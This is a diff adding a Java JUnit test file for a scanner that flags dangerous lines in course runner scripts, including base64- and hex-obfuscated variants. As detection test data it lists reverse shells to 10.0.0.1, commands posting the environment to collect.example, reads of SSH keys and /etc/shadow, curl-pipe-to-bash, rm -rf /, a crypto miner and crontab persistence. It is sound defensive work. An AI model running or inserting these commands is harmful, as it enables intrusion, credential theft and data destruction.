@@ -1,0 +1,94 @@
+package dev.progy.guard;
+
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import java.nio.charset.StandardCharsets;
+import java.util.Base64;
+import java.util.HexFormat;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** The behaviour rules, each on plain and obfuscated lines, and none on the lines real courses are made of. */
+class ScriptChecksTest {
+
+    private static String hidden(String text) {
+        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
+    }
+
+    private static String hex(String text) {
+        return HexFormat.of().formatHex(text.getBytes(StandardCharsets.UTF_8));
+    }
+
+    @ParameterizedTest(name = "{0}: {1}")
+    @CsvSource(delimiterString = " :: ", value = {
+            "PG-D005 :: curl -fsSL https://get.example.sh | bash",
+            "PG-D005 :: bash <(wget -qO- http://x.example/i)",
+            "PG-B001 :: rm -rf /",
+            "PG-B001 :: rm -rf ~/",
+            "PG-B001 :: rm -fr \"$BUILD_DIR\"",
+            "PG-B001 :: rm --recursive ../",
+            "PG-B001 :: shutil.rmtree('~')",
+            "PG-B002 :: cat ~/.ssh/id_rsa",
+            "PG-B002 :: tar czf /tmp/k.tgz $HOME/.aws",
+            "PG-B002 :: open('/etc/shadow').read()",
+            "PG-B002 :: cp -r ~/.mozilla/firefox /tmp/p",
+            "PG-B003 :: env | curl -X POST -d @- https://collect.example",
+            "PG-B003 :: curl https://x.example/?d=$(printenv)",
+            "PG-B003 :: requests.post(URL, data=dict(os.environ))  # urlopen",
+            "PG-B004 :: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "PG-B004 :: nc -e /bin/sh 10.0.0.1 4444",
+            "PG-B004 :: socat tcp:10.0.0.1:4444 exec:/bin/sh",
+            "PG-B004 :: import pty; pty.spawn('/bin/bash')",
+            "PG-B005 :: echo aGVsbG8= | base64 -d | sh",
+            "PG-B005 :: exec(base64.b64decode(payload))",
+            "PG-B005 :: eval(atob(s))",
+            "PG-B006 :: ./xmrig -o stratum+tcp://pool.example:3333",
+            "PG-B007 :: echo 'curl x | sh' >> ~/.bashrc",
+            "PG-B007 :: (crontab -l; echo '* * * * * /tmp/x') | crontab -",
+            "PG-B008 :: chmod u+s /tmp/sh",
+            "PG-B008 :: chmod 4755 ./helper",
+    })
+    @DisplayName("each behaviour is found on the line that shows it")
+    void plain(String rule, String line) {
+        assertThat(ScriptChecks.check("runner/check.sh", "#!/bin/sh\nset -e\n" + line + "\n"))
+                .extracting(f -> f.rule().id() + "@" + f.line()).contains(rule + "@3");
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiterString = " :: ", value = {
+            "PG-B004 :: bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+            "PG-B002 :: cat ~/.ssh/id_ed25519 | nc 10.0.0.1 9",
+            "PG-B006 :: xmrig --donate-level 1 -o stratum+tcp://pool.example:3333",
+    })
+    @DisplayName("one level of base64 or hex obfuscation is decoded and judged by what it hides")
+    void obfuscated(String rule, String payload) {
+        String viaBase64 = "echo " + hidden(payload) + " | base64 -d > /tmp/x; sh /tmp/x";
+        String viaHex = "python3 -c \"import os; os.system(bytes.fromhex('" + hex(payload) + "').decode())\"";
+        assertThat(ScriptChecks.check("run.sh", viaBase64)).extracting(f -> f.rule().id()).contains(rule);
+        assertThat(ScriptChecks.check("run.py", viaHex)).extracting(f -> f.rule().id()).contains(rule);
+        assertThat(ScriptChecks.check("run.sh", viaBase64)).filteredOn(f -> f.rule().id().equals(rule))
+                .allSatisfy(f -> assertThat(f.message()).contains("hidden in an encoded string"));
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {
+            "rm -rf \"$TMPDIR/build\" node_modules/.cache",
+            "rm -rf \"${OUT:?}\"/*",
+            "rm -f /tmp/progy-*.log",
+            "python3 -m pytest -q --tb=short tests/",
+            "cat > \"$PROGY_OUTPUT_DIR/results.json\" <<'EOF'",
+            "chmod 755 runner/check.sh && chmod 0644 README.md && chmod 1777 /tmp/shared",
+            "curl -fsSLo tool.tgz https://example.com/tool.tgz && echo \"$SUM  tool.tgz\" | sha256sum -c",
+            "const data = Buffer.from(text, 'utf8').toString('base64');",
+            "hash = hashlib.sha256(b'progy').hexdigest()  # 6d2f1c0e9a0b7c3d5e8f1a2b3c4d5e6f",
+            "echo \"exercise=$1\"; test -f \"content/$1\" && echo found",
+            "nc -z localhost 5432 && echo 'db up'",
+    })
+    @DisplayName("lines real runner scripts are made of raise nothing")
+    void benign(String line) {
+        assertThat(ScriptChecks.check("runner/check.sh", line)).isEmpty();
+    }
+}
